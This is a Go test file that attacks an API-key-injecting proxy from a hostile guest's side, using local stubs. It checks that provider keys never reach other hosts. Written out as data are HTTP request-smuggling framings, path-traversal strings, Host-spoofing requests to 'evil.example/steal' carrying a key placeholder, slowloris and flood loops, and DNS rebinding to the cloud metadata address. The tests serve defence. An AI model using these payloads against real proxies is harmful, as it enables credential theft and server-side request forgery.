package proxy

// Hostile-guest tests: the guest controls every byte it sends to the proxy.
// Whatever it sends, a real key reaches only its provider's upstream stub,
// and the proxy keeps answering others with bounded memory.

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// stillServes checks that a normal provider request still works.
func (h *harness) stillServes() {
	h.t.Helper()
	resp, body := h.route("POST", "/anthropic/v1/messages", http.Header{"X-Api-Key": {ph("ANTHROPIC_API_KEY")}}, "{}")
	if resp.StatusCode != 200 {
		h.t.Fatalf("the proxy no longer serves: %d %s", resp.StatusCode, body)
	}
}

// onlyAt fails when a real key reached any stub but want.
func onlyAt(t *testing.T, want *stub, stubs ...*stub) {
	t.Helper()
	for _, s := range stubs {
		if s != want && s.sawKey() != "" {
			t.Fatalf("a key reached %s: %q", s.URL, s.sawKey())
		}
	}
}

// An absolute URI naming a provider's API host is plain forward proxying:
// the request reaches that host as the guest wrote it, placeholder and all.
func TestHostileAbsoluteURIToProviderHost(t *testing.T) {
	h := newHarness(t)
	fake := newStub(t, false, nil)
	h.dns.set("api.anthropic.com", "127.0.0.1")
	h.allow(fmt.Sprintf("api.anthropic.com:%d", fake.port()), fmt.Sprintf("127.0.0.1:%d", fake.port()))
	out := h.raw(fmt.Sprintf("POST http://api.anthropic.com:%d/v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Api-Key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}", fake.port(), ph("ANTHROPIC_API_KEY")))
	if !strings.HasPrefix(out, "HTTP/1.1 200") {
		t.Fatalf("got %s", out)
	}
	if got := fake.requests()[0].Header.Get("X-Api-Key"); got != ph("ANTHROPIC_API_KEY") {
		t.Fatalf("the host got x-api-key %q", got)
	}
	onlyAt(t, h.anthropic, fake, h.openai, h.gemini)
}

// A CONNECT tunnel to the provider's own host (allowlisted by default) is
// opaque TLS: the placeholder arrives, the key does not.
func TestHostileConnectToProviderHost(t *testing.T) {
	h := newHarness(t)
	h.dns.set("api.anthropic.com", "127.0.0.1")
	h.allow(fmt.Sprintf("api.anthropic.com:%d", h.anthropic.port()), fmt.Sprintf("127.0.0.1:%d", h.anthropic.port()))
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT api.anthropic.com:%d HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n", h.anthropic.port())
	br := bufio.NewReader(c)
	if line := statusLine(br); !strings.HasPrefix(line, "HTTP/1.1 200") {
		t.Fatalf("CONNECT: %s", line)
	}
	for {
		if l, _ := br.ReadString('\n'); l == "\r\n" || l == "" {
			break
		}
	}
	pool := x509.NewCertPool()
	pool.AddCert(h.anthropic.Certificate())
	tc := tls.Client(c, &tls.Config{RootCAs: pool, ServerName: "example.com"})
	fmt.Fprintf(tc, "POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Api-Key: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", ph("ANTHROPIC_API_KEY"))
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	reqs := h.anthropic.requests()
	if len(reqs) != 1 || reqs[0].Header.Get("X-Api-Key") != ph("ANTHROPIC_API_KEY") {
		t.Fatalf("through the tunnel the upstream got %+v", reqs)
	}
	if k := h.anthropic.sawKey(); k != "" {
		t.Fatalf("the key went through a tunnel: %q", k)
	}
}

// The Host header never chooses where a key goes.
func TestHostileHostHeader(t *testing.T) {
	h := newHarness(t)
	evil := newStub(t, false, nil)
	h.dns.set("evil.example", "127.0.0.1")
	h.allow(fmt.Sprintf("evil.example:%d", evil.port()), fmt.Sprintf("127.0.0.1:%d", evil.port()))
	evilHost := fmt.Sprintf("evil.example:%d", evil.port())
	for _, req := range []string{
		// origin form, Host names another server
		"POST /anthropic/v1/messages HTTP/1.1\r\nHost: " + evilHost + "\r\nX-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
		// the proxy's own address as an absolute URI, Host elsewhere
		"POST http://" + GuestAddress + "/anthropic/v1/messages HTTP/1.1\r\nHost: " + evilHost + "\r\nX-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
		// an absolute URI elsewhere, Host and path of the provider route
		"POST http://" + evilHost + "/anthropic/v1/messages HTTP/1.1\r\nHost: " + GuestAddress + "\r\nX-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
		// two Host headers
		"POST /anthropic/v1/messages HTTP/1.1\r\nHost: " + GuestAddress + "\r\nHost: " + evilHost + "\r\nX-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\nContent-Length: 0\r\n\r\n",
	} {
		h.raw(req)
	}
	onlyAt(t, h.anthropic, evil, h.openai, h.gemini)
	if len(h.anthropic.requests()) != 2 {
		t.Errorf("the provider got %d requests; want the 2 addressed to its route", len(h.anthropic.requests()))
	}
	if len(evil.requests()) != 1 || evil.requests()[0].Host != evilHost {
		t.Errorf("the other server got %+v", evil.requests())
	}
}

// Paths cannot reach another host, or climb out of the upstream's base path.
func TestHostilePaths(t *testing.T) {
	h := newHarness(t)
	evil := newStub(t, false, nil)
	h.dns.set("evil.example", "127.0.0.1")
	for _, p := range []string{
		"/anthropic@evil.example/v1/messages", "/anthropic/../openai/v1/x", "/anthropic/%2e%2e/x",
		"/anthropic/%2E%2E%2Fopenai", "/anthropic/.%2e/x", "//evil.example/anthropic/x", "/openai/../x",
		"/openai/%2e%2e/%2e%2e/x", "/openai/./x", "/anthropic\\..\\x", "/anthropic/x%00", "/anthropic/%zz",
		"/anthropic/v1/messages?@evil.example", "/anthropic/v1/messages#@evil.example", "/anthropic;/x",
	} {
		h.raw("POST " + p + " HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\nAuthorization: Bearer " + ph("OPENAI_API_KEY") + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	}
	for _, r := range append(h.anthropic.requests(), h.openai.requests()...) {
		if strings.Contains(r.Path, "..") || !strings.HasPrefix(r.Path, "/") {
			t.Errorf("an upstream got path %q", r.Path)
		}
	}
	for _, r := range h.openai.requests() {
		if !strings.HasPrefix(r.Path, "/v1base/") {
			t.Errorf("the openai upstream got %q, outside its base path", r.Path)
		}
	}
	if len(evil.requests()) != 0 {
		t.Fatalf("a path reached another host: %+v", evil.requests())
	}
	onlyAt(t, nil, h.openai, h.gemini)
	h.stillServes()
}

// Request smuggling: whatever framing the guest sends, the proxy forwards
// requests it parsed itself, re-serialized; a key goes only to its upstream.
func TestHostileSmuggling(t *testing.T) {
	h := newHarness(t)
	evil := newStub(t, false, nil)
	h.dns.set("evil.example", "127.0.0.1")
	h.allow(fmt.Sprintf("127.0.0.1:%d", evil.port()), fmt.Sprintf("evil.example:%d", evil.port()))
	key := "X-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\n"
	inner := fmt.Sprintf("GET http://evil.example:%d/steal HTTP/1.1\r\nHost: evil.example\r\n%s\r\n", evil.port(), key)
	cases := map[string]string{
		"CL and TE":          "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + fmt.Sprintf("Content-Length: %d\r\n", 5+len(inner)) + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		"TE and CL":          "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + inner,
		"two CLs":            "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Content-Length: 0\r\nContent-Length: 50\r\n\r\n" + inner,
		"TE list":            "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + inner,
		"TE obfuscated":      "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n" + inner,
		"obs-fold key":       "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: x\r\n " + ph("ANTHROPIC_API_KEY") + "\r\nContent-Length: 0\r\n\r\n",
		"obs-fold host":      "GET http://evil.example:1/ HTTP/1.1\r\nHost: a\r\n evil\r\n" + key + "\r\n",
		"two keys":           "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + key + "Content-Length: 0\r\n\r\n",
		"bare LF":            "POST /anthropic/v1/messages HTTP/1.1\nHost: x\n" + key + "Content-Length: 0\n\n" + inner,
		"NUL in header":      "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nX-Foo: a\x00b\r\n" + key + "\r\n",
		"space before colon": "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key : " + ph("ANTHROPIC_API_KEY") + "\r\n\r\n",
		"HTTP/0.9":           "GET /anthropic/v1/messages\r\n\r\n",
		"chunk extension":    "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Transfer-Encoding: chunked\r\n\r\n5;ext=\"\r\n0\r\n\r\n\"\r\nhello\r\n0\r\n\r\n" + inner,
		"pipelined":          "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Content-Length: 0\r\n\r\n" + inner,
	}
	for name, req := range cases {
		out := h.raw(req)
		t.Logf("%s: %q", name, firstLine(out))
	}
	for _, r := range h.anthropic.requests() {
		if strings.Contains(r.Body, "evil") && strings.Contains(r.Body, anthropicKey) {
			t.Errorf("a smuggled body carried the key: %q", r.Body)
		}
	}
	onlyAt(t, h.anthropic, evil, h.openai, h.gemini)
	h.stillServes()
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\r\n")
	return l
}

func TestHostileOversizedHeaders(t *testing.T) {
	h := newHarness(t)
	big := "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nX-Big: " + strings.Repeat("a", 200<<10) + "\r\n\r\n"
	if out := h.raw(big); !strings.HasPrefix(out, "HTTP/1.1 431") {
		t.Errorf("one huge header: %q", firstLine(out))
	}
	var many strings.Builder
	many.WriteString("GET /anthropic/v1/models HTTP/1.1\r\nHost: x\r\n")
	for i := 0; i < 8000; i++ {
		fmt.Fprintf(&many, "X-H%d: v\r\n", i)
	}
	many.WriteString("\r\n")
	if out := h.raw(many.String()); !strings.HasPrefix(out, "HTTP/1.1 431") {
		t.Errorf("many headers: %q", firstLine(out))
	}
	longLine := "GET /anthropic/" + strings.Repeat("a", 1<<20) + " HTTP/1.1\r\nHost: x\r\n\r\n"
	if out := h.raw(longLine); !strings.HasPrefix(out, "HTTP/1.1 4") {
		t.Errorf("a 1 MiB request line: %q", firstLine(out))
	}
	if n := len(h.anthropic.requests()); n != 0 {
		t.Errorf("the upstream got %d requests", n)
	}
	h.stillServes()
}

// Slowloris: connections that trickle their headers are closed after the
// header timeout; the others are served meanwhile.
func TestHostileSlowloris(t *testing.T) {
	h := newHarness(t, func(_ *harness, o *Options) { o.testOnlyReadHeaderTimeout = 500 * time.Millisecond })
	var conns []net.Conn
	for i := 0; i < 50; i++ {
		c, err := net.Dial("tcp", h.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		io.WriteString(c, "GET /anthropic/v1/models HTTP/1.1\r\nHost: x\r\n")
		conns = append(conns, c)
	}
	stop := make(chan struct{})
	go func() { // one more header byte every 100ms
		for {
			select {
			case <-stop:
				return
			case <-time.After(100 * time.Millisecond):
				for _, c := range conns {
					c.Write([]byte("X"))
				}
			}
		}
	}()
	defer close(stop)
	h.stillServes()
	for i, c := range conns {
		c.SetReadDeadline(time.Now().Add(10 * time.Second))
		_, err := io.Copy(io.Discard, c)
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Fatalf("slow connection %d is still open after 10s", i)
		}
	}
}

// Thousands of connections: beyond the limit each gets a 503 and is closed,
// memory stays bounded, and once they close the proxy serves again.
func TestHostileManyConnections(t *testing.T) {
	raiseFileLimit(t, 8192)
	h := newHarness(t, func(_ *harness, o *Options) { o.MaxConns = 128 })
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)

	const n = 3000
	conns := make([]net.Conn, 0, n)
	var mu sync.Mutex
	busyCount := 0
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", h.addr)
		if err != nil {
			t.Fatalf("connection %d: %v", i, err)
		}
		conns = append(conns, c)
		if i >= 128 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				b, _ := io.ReadAll(c)
				if strings.HasPrefix(string(b), "HTTP/1.1 503") && strings.Contains(string(b), "too many connections") {
					mu.Lock()
					busyCount++
					mu.Unlock()
				}
			}()
		}
	}
	wg.Wait()
	if busyCount != n-128 {
		t.Errorf("%d of %d connections over the limit got the 503", busyCount, n-128)
	}
	var during runtime.MemStats
	runtime.ReadMemStats(&during)
	if grew := int64(during.HeapInuse) - int64(before.HeapInuse); grew > 64<<20 {
		t.Errorf("the heap grew by %d MiB", grew>>20)
	}
	if g := runtime.NumGoroutine(); g > 128*4+200 {
		t.Errorf("%d goroutines", g)
	}
	for _, c := range conns {
		c.Close()
	}
	// The held connections' slots come back once they are closed.
	deadline := time.Now().Add(10 * time.Second)
	for {
		resp, err := http.Post("http://"+h.addr+"/anthropic/v1/messages", "application/json", strings.NewReader("{}"))
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == 200 {
				break
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("the proxy does not serve after the flood: %v %v", resp, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func raiseFileLimit(t *testing.T, want uint64) {
	var lim syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
		t.Fatal(err)
	}
	if lim.Cur < want {
		lim.Cur = min(want, lim.Max)
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
	}
	if lim.Cur < want {
		t.Skipf("RLIMIT_NOFILE is %d: cannot open enough connections", lim.Cur)
	}
}

// DNS rebinding: one lookup per request, and only an address that passed
// the check is dialled.
func TestHostileDNSRebinding(t *testing.T) {
	h := newHarness(t)
	// The site closes every connection: the second request must dial (and
	// resolve) again. A kept-alive connection, checked when it was dialled,
	// could otherwise go back to the proxy's pool after CloseIdleConnections
	// below, and carry the second request without a lookup.
	site := newStub(t, false, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close")
		io.WriteString(w, "stub answer\n")
	})
	h.allow(fmt.Sprintf("rebind.example:%d", site.port()), fmt.Sprintf("127.0.0.1:%d", site.port()))
	h.dns.set("rebind.example", "10.0.0.9", "169.254.169.254", "127.0.0.1")
	url := fmt.Sprintf("http://rebind.example:%d/", site.port())
	resp, err := h.client().Get(url)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("got %v %v", resp, err)
	}
	resp.Body.Close()
	if c := h.dns.calls["rebind.example"]; c != 1 {
		t.Errorf("%d lookups for one request", c)
	}
	h.dns.set("rebind.example", "169.254.169.254")
	h.srv.forward.CloseIdleConnections()
	resp, err = h.client().Get(url)
	if err != nil || resp.StatusCode != 403 {
		t.Fatalf("a name rebound to the metadata address: %v %v", resp, err)
	}
	b, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(b), "address 169.254.169.254") {
		t.Errorf("the refusal does not name the address: %s", b)
	}
}

// The host's own addresses count as the host's, even public ones.
func TestHostileHostOwnAddress(t *testing.T) {
	site := newStub(t, false, nil)
	h := newHarness(t, func(h *harness, o *Options) {
		o.testOnlyHostAddrs = func() map[netip.Addr]bool { return map[netip.Addr]bool{netip.MustParseAddr("93.184.215.14"): true} }
	})
	h.mode("open")
	h.dns.set("me.example", "93.184.215.14")
	out := h.raw(fmt.Sprintf("GET http://me.example:%d/ HTTP/1.1\r\nHost: me.example\r\n\r\n", site.port()))
	if !strings.HasPrefix(out, "HTTP/1.1 403") {
		t.Errorf("got %q", firstLine(out))
	}
}

func TestHostileUntrustedUpstream(t *testing.T) {
	h := newHarness(t, func(_ *harness, o *Options) { o.RootCAs = x509.NewCertPool() })
	resp, body := h.route("POST", "/anthropic/v1/messages", http.Header{"X-Api-Key": {ph("ANTHROPIC_API_KEY")}}, "{}")
	if resp.StatusCode != 502 {
		t.Errorf("got %d %s", resp.StatusCode, body)
	}
	if len(h.anthropic.requests()) != 0 {
		t.Fatal("a request reached an upstream whose certificate is not trusted")
	}
}

func TestHostileErrorsDoNotCarryTheKey(t *testing.T) {
	h := newHarness(t)
	h.gemini.Close()
	resp, body := h.route("GET", "/gemini/v1beta/models?key="+ph("GEMINI_API_KEY"), nil, "")
	if resp.StatusCode != 502 || strings.Contains(body, geminiKey) {
		t.Errorf("got %d %q", resp.StatusCode, body)
	}
	for k, v := range resp.Header {
		if strings.Contains(fmt.Sprint(v), geminiKey) {
			t.Errorf("header %s carries the key", k)
		}
	}
}
